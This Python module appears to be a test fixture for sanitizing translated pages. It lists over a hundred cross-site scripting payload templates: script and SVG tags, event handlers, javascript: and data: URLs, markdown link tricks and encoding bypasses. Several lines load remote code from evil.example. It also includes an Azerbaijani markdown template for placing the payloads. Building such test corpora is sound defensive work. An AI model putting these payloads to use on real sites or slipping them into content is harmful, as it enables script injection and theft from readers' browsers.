"""Payloads: what translations could bring to a page to harm its readers."""

from __future__ import annotations

RUN = "top.ran=self.ran=1"
CALLS = [
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</script>",
    "<script/x>{}</script >",
    "<script\n>{}</script\n>",
    "</script><script>{}</script>",
    "<!--<script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<title></title><script>{}</script></title>",
    "<textarea></textarea><script>{}</script>",
    "<style></style><script>{}</script></style>",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{}></script>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'></use></svg>",
    "<svg><foreignObject><iframe onload={}></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href=javascript:{}>x</math>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '<img src=x onerror="{}"',
    "<img/src=x/onerror={}>",
    "<img src=x:x onerror&equals;{}>",
    "<img src=x\nonerror\n=\n{}>",
    "<IMG SRC=javascript:{}>",
    "<IMG SRC='java\tscript:{}'>",
    "<img src=x oNeRrOr={}>",
    "<img srcset='x 1x' onerror={}>",
    "<picture><source srcset=x><img onerror={}></picture>",
    "<image src=x onerror={}>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src onloadstart={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<button autofocus onfocus={}>x</button>",
    "<keygen autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<dialog open onclose={}>x</dialog>",
    "<marquee onstart={}>x</marquee>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<html onmouseover={}>",
    "<frameset onload={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=data:text/html,<script>{}</script>></iframe>",
    "<object data=javascript:{}></object>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src=javascript:{}>",
    "<embed code=//evil.example/x.swf>",
    "<form action=javascript:{}><input type=submit></form>",
    "<form><button formaction=javascript:{}>x</button></form>",
    "<isindex action=javascript:{} type=image>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>{}</script>>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example/x.png)}}</style>",
    "<p style=background:url(javascript:{})>x</p>",
    "<b style='x:expression({})'>x</b>",
    "<b onclick={}>x</b>",
    "<b onmouseover={}>x</b>",
    "<b onpointerenter={} class=x>x</b>",
    "<b class=x style=animation:come onanimationstart={}>x</b>",
    "<b/onmouseover={}>x</b>",
    '<b class="x"onmouseover={}>x</b>',
    "<b title='x'onclick='{}'>x</b>",
    "<b lang='x' onclick={}>x</b>",
    "<bdo dir=rtl onmouseover={}>x</bdo>",
    '<span lang="x" title=\'"><img src=x onerror={}>\'>x</span>',
    "<a href=javascript:{}>x</a>",
    "<a href='java\nscript:{}'>x</a>",
    "<a href=&#106;avascript:{}>x</a>",
    "<a href=' javascript:{}'>x</a>",
    "<a href=vbscript:{}>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<a href=//evil.example/ ping=//evil.example/>x</a>",
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java&#10;script:{})",
    "[x](&#x6A;avascript:{})",
    "[x](<java\tscript:{}>)",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example)",
    "[x][y]\n\n[y]: javascript:{}",
    "![x](javascript:{})",
    "![x](x.png 'x\" onerror=\"{}')",
    '![x" onerror="{}](x.png)',
    "<javascript:{}>",
    '<https://x" onclick="{}>',
    "`<script>{}</script>`",
    "```\n<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\<script>{}\\</script>",
    "{{{{ ''.__class__ }}}}{{% raw %}}<script>{}</script>",
    "${{alert(1)}}<script>{}</script>",
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    '"><svg onload={}>',
    "'><svg onload={}>",
    "\u2028<script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<\u0000script>{}</script>".replace("\0", "\x0b"),
    "\u202e<script>{}</script>",
    '<span lang="a id=\'" dir=\'x" onclick={} "\'>y</span>',
    '<span lang="<p " dir=\'>\u2060</p> " onclick={} \'>y</span>',
    '<bdi dir="<input type=" lang=\'checkbox> " onclick={} \'>y</bdi>',
    "$[x](javascript:{}//$a)",
]
PAYLOADS = [payload.format(RUN) for payload in CALLS]
WHERE = """\
## Başlıq {0}

Mətn {0}.

- Bənd {0}

| Xana {0} |
|---|

[Bağ {0}](b.md) [Ünvan {0}](b.md)

![Alt {0}](x.png "Ad {0}")

<!-- i18n:translate -->
<div>Html {0}</div>

Söz {0}
: Tərif {0}

Şübhəli {0}.

    kod {0}
"""
PLACES = [
    *("Başlıq {}", "Mətn {}.", "Bənd {}", "Xana {}", "Html {}", "Söz {}", "Tərif {}", "kod {}"),
]
